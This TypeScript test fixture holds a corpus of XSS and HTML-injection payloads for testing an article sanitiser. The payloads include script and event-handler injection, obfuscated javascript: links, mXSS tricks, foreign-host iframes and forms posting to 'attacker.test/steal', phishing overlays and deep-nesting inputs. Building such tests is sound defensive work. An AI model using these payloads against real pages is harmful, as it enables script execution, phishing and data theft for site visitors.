// Hostile article bodies: each tries to run script, load from a foreign host, navigate, or break the page.
// Payloads signal success by setting window.__pwned, opening a dialog, or requesting attacker.test.

export interface THostileInput {
  name: string;
  input: string;
  /**
   * Without the sanitiser (the input loaded as HTML, or marked's output for markdown) it trips a detector in
   * Chromium. The browser test checks that first, so a silent pass cannot come from a blind harness.
   */
  tripsWhenUnsanitised?: boolean;
  /** Visible text that must survive sanitising (the harmless part of the input). */
  keepsText?: string;
  /** The input is markdown: its unsanitised form is marked's output rather than the input itself. */
  markdown?: true;
}

export const ATTACKER_HOST = "attacker.test";
export const SAFE_IMAGE_HOST = "images.example";

const PWN = "window.__pwned=1";
const deep = (open: string, close: string, levels: number, middle: string): string =>
  open.repeat(levels) + middle + close.repeat(levels);

export const HOSTILE_CORPUS: readonly THostileInput[] = [
  {
    name: "script tag",
    input: `<p>Before</p><script>${PWN}</script><p>After</p>`,
    tripsWhenUnsanitised: true,
    keepsText: "After",
  },
  {
    name: "mixed-case script tag",
    input: `<ScRiPt>${PWN}</sCrIpT><p>Text</p>`,
    tripsWhenUnsanitised: true,
    keepsText: "Text",
  },
  {
    name: "script with external src",
    input: `<script src="https://${ATTACKER_HOST}/x.js"></script>`,
    tripsWhenUnsanitised: true,
  },
  { name: "img onerror", input: `<img src="x" onerror="${PWN}">`, tripsWhenUnsanitised: true },
  { name: "img onerror, unquoted and unclosed", input: `<p>Hi <img src=x onerror=${PWN}//`, keepsText: "Hi" },
  {
    name: "event handlers on allowed tags",
    input: `<p onclick="${PWN}" onmouseover="${PWN}">Hover me</p>`,
    tripsWhenUnsanitised: true,
    keepsText: "Hover me",
  },
  {
    name: "autofocus onfocus",
    input: `<div tabindex="1" autofocus onfocus="${PWN}">Focus</div><input autofocus onfocus="${PWN}">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "details ontoggle",
    input: `<details open ontoggle="${PWN}"><summary>More</summary>Body</details>`,
    tripsWhenUnsanitised: true,
  },
  { name: "svg onload", input: `<svg onload="${PWN}"><circle r="10"></circle></svg>`, tripsWhenUnsanitised: true },
  { name: "svg with script inside", input: `<svg><script>${PWN}</script></svg>`, tripsWhenUnsanitised: true },
  {
    name: "svg animate setting a javascript: href",
    input: `<svg width="100" height="40"><a><animate attributeName="href" values="javascript:${PWN}"></animate><text x="10" y="20">Click</text></a></svg>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "javascript: link",
    input: `<a href="javascript:${PWN}">Click</a>`,
    tripsWhenUnsanitised: true,
    keepsText: "Click",
  },
  {
    name: "mixed-case JaVaScRiPt: link",
    input: `<a href="JaVaScRiPt:${PWN}">Click</a>`,
    tripsWhenUnsanitised: true,
    keepsText: "Click",
  },
  {
    name: "entity-encoded javascript: link",
    input: `<a href="&#106;&#97;vascript&#58;${PWN}">Click</a>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "hex entities, tab and newline inside javascript:",
    input: `<a href="jav&#x09;ascr&#x0A;ipt&colon;${PWN}">Click</a>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "javascript: with leading spaces",
    input: `<a href="   javascript:${PWN}">Click</a>`,
    tripsWhenUnsanitised: true,
  },
  { name: "vbscript: link", input: `<a href="vbscript:msgbox(1)">VB</a><a href="VBScript&#58;msgbox(1)">VB2</a>` },
  { name: "data: link", input: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>` },
  {
    name: "data: image (svg with script)",
    input: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4="><img src="DATA:image/png;base64,AAAA">`,
  },
  {
    name: "iframe to a foreign host",
    input: `<iframe src="https://${ATTACKER_HOST}/frame"></iframe>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "iframe with javascript: src",
    input: `<iframe src="javascript:parent.__pwned=1"></iframe>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "iframe srcdoc",
    input: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "YouTube embed carrying srcdoc and handlers",
    input: `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>parent.__pwned=1</script>" onload="${PWN}"></iframe>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "YouTube look-alike iframe hosts and paths",
    input:
      `<iframe src="https://www.youtube.com.${ATTACKER_HOST}/embed/dQw4w9WgXcQ"></iframe>` +
      `<iframe src="https://${ATTACKER_HOST}/?u=https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>` +
      `<iframe src="https://www.youtube.com@${ATTACKER_HOST}/embed/dQw4w9WgXcQ"></iframe>` +
      `<iframe src="//${ATTACKER_HOST}/embed/dQw4w9WgXcQ"></iframe>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "object",
    input: `<object data="https://${ATTACKER_HOST}/x.html" type="text/html"></object>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "embed",
    input: `<embed src="https://${ATTACKER_HOST}/x.svg" type="image/svg+xml">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "style element with @import and url()",
    input: `<style>@import url(https://${ATTACKER_HOST}/x.css); body { background: url(https://${ATTACKER_HOST}/bg.png) }</style><p>Styled</p>`,
    tripsWhenUnsanitised: true,
    keepsText: "Styled",
  },
  {
    name: "CSS expression()",
    input: `<div style="width: expression(${PWN}); color: red">Expr</div>`,
    keepsText: "Expr",
  },
  { name: "CSS url(javascript:)", input: `<div style="background: url(javascript:${PWN})">Bg</div>`, keepsText: "Bg" },
  {
    name: "CSS url() to a foreign host, plain and escaped",
    input: `<div style="background-image: url(https://${ATTACKER_HOST}/a.png)">A</div><div style="background: \\75rl(https://${ATTACKER_HOST}/b.png)">B</div>`,
    tripsWhenUnsanitised: true,
    keepsText: "A",
  },
  {
    name: "full-screen fixed overlay link",
    input: `<a href="https://${ATTACKER_HOST}/login" style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999">Sign in again</a>`,
  },
  {
    name: "class and id borrowing",
    input: `<div class="fixed inset-0 z-50" id="__pwned"><a name="__pwned" href="#">Clobber</a></div><form id="location"></form>`,
    keepsText: "Clobber",
  },
  {
    name: "meta refresh",
    input: `<meta http-equiv="refresh" content="0;url=https://${ATTACKER_HOST}/">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "base href",
    input: `<base href="https://${ATTACKER_HOST}/"><img src="logo.png" alt="logo"><a href="page">Page</a>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "link stylesheet",
    input: `<link rel="stylesheet" href="https://${ATTACKER_HOST}/x.css">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "form posting to a foreign host",
    input: `<form action="https://${ATTACKER_HOST}/steal" method="post"><input name="q" value="secret"><button>Go</button></form>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "button formaction javascript:",
    input: `<form><button formaction="javascript:${PWN}">Go</button></form>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "img srcset to a foreign host",
    input: `<img src="https://${SAFE_IMAGE_HOST}/ok.png" srcset="https://${ATTACKER_HOST}/x.png 2x, https://${ATTACKER_HOST}/y.png 1x">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "video poster and source",
    input: `<video poster="https://${ATTACKER_HOST}/p.png" autoplay><source src="https://${ATTACKER_HOST}/v.mp4"></video>`,
    tripsWhenUnsanitised: true,
  },
  { name: "protocol-relative image", input: `<img src="//${ATTACKER_HOST}/x.png">`, tripsWhenUnsanitised: true },
  {
    name: "anchor ping",
    input: `<a href="https://example.com/" ping="https://${ATTACKER_HOST}/ping">Ping</a>`,
    keepsText: "Ping",
  },
  {
    name: "HTML comment hiding a payload",
    input: `<!--<img src=x onerror=${PWN}>--><p>Visible</p>`,
    keepsText: "Visible",
  },
  { name: "comment closed with --!>", input: `<!-- a --!><img src=x onerror=${PWN}> -->`, tripsWhenUnsanitised: true },
  { name: "abrupt empty comment <!-->", input: `<!--><img src=x onerror=${PWN}>-->`, tripsWhenUnsanitised: true },
  { name: "CDATA trick", input: `<![CDATA[><img src=x onerror=${PWN}>]]>`, tripsWhenUnsanitised: true },
  {
    name: "noscript attribute breakout (mXSS)",
    input: `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></p></noscript>`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "math/mglyph namespace confusion (mXSS)",
    input: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PWN}&gt;">`,
  },
  { name: "template content", input: `<template><img src=x onerror=${PWN}></template><p>T</p>`, keepsText: "T" },
  {
    name: "title and textarea raw text",
    input: `<title><img src=x onerror=${PWN}></title><textarea><img src=x onerror=${PWN}></textarea><p>Raw</p>`,
    keepsText: "Raw",
  },
  { name: "xmp and plaintext", input: `<xmp><img src=x onerror=${PWN}></xmp><p>X</p>`, keepsText: "X" },
  {
    name: "broken attribute quoting",
    input: `<a href="https://example.com/"onclick="${PWN}">Q</a><img src="x"onerror="${PWN}">`,
    tripsWhenUnsanitised: true,
  },
  {
    name: "unclosed tags everywhere",
    input: `<div><p><b><i><a href="https://example.com/">Unclosed <table><tr><td>cell`,
    keepsText: "cell",
  },
  {
    name: "markdown javascript: link",
    input: `Read [this](javascript:${PWN}) now.`,
    tripsWhenUnsanitised: true,
    keepsText: "this",
    markdown: true,
  },
  {
    name: "markdown entity-encoded javascript: link",
    input: `[x](&#x6A;avascript&#x3A;${PWN})`,
    tripsWhenUnsanitised: true,
    markdown: true,
  },
  {
    name: "markdown angle-bracket javascript: link",
    input: `[x](<javascript:${PWN}>)`,
    tripsWhenUnsanitised: true,
    markdown: true,
  },
  {
    name: "markdown reference link to javascript:",
    input: `[click][1]\n\n[1]: javascript:${PWN}`,
    tripsWhenUnsanitised: true,
    markdown: true,
  },
  { name: "markdown autolink javascript:", input: `See <javascript:${PWN}> here`, keepsText: "See", markdown: true },
  { name: "markdown image with javascript: src", input: `![pic](javascript:${PWN})`, markdown: true },
  {
    name: "markdown image breaking out of the src attribute",
    input: `![x](x"onerror="${PWN})\n\n![y](https://${SAFE_IMAGE_HOST}/a.png" onerror="${PWN})`,
    markdown: true,
  },
  {
    name: "markdown image with data: src",
    input: `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    markdown: true,
  },
  {
    name: "raw HTML inside markdown",
    input: `## Heading\n\nText **bold**\n\n<img src="x" onerror="${PWN}">\n\n- item`,
    tripsWhenUnsanitised: true,
    keepsText: "bold",
    markdown: true,
  },
  {
    name: "payload in a heading and the summary block",
    input: `## <img src="x" onerror="${PWN}">Specs\n\n## What Actually Works\n- <svg onload="${PWN}">fast\n\n## Brutal Summary\n<script>${PWN}</script>Fine.`,
    tripsWhenUnsanitised: true,
    markdown: true,
  },
  {
    name: "retailer link with an event handler",
    input: `<a href="https://www.amazon.com/dp/B000" onclick="${PWN}">Buy</a>`,
    tripsWhenUnsanitised: true,
    keepsText: "Buy",
  },
  {
    name: "5,000-level nested HTML list",
    input: deep("<ul><li>", "</li></ul>", 5000, "deep") + `<img src=x onerror=${PWN}>`,
    tripsWhenUnsanitised: true,
    keepsText: "deep",
  },
  {
    name: "5,000-level nested divs and blockquotes",
    input: deep("<div><blockquote>", "</blockquote></div>", 2500, "bottom"),
    keepsText: "bottom",
  },
  {
    name: "5,000-level nested markdown list",
    input: `${"- ".repeat(5000)}bottom`,
    keepsText: "bottom",
    markdown: true,
  },
  {
    name: "5,000-level nested markdown blockquote",
    input: `${"> ".repeat(5000)}bottom`,
    keepsText: "bottom",
    markdown: true,
  },
  {
    name: "5,000-level indented markdown list",
    input: Array.from({ length: 5000 }, (_, i) => `${" ".repeat(Math.min(i, 200) * 2)}- level ${i}`).join("\n"),
    keepsText: "level 4999",
    markdown: true,
  },
  {
    name: "10,000 emphasis delimiters",
    input: `${"*".repeat(5000)}x${"*".repeat(5000)} and ${"*_".repeat(2500)}y${"_*".repeat(2500)}`,
    markdown: true,
  },
];
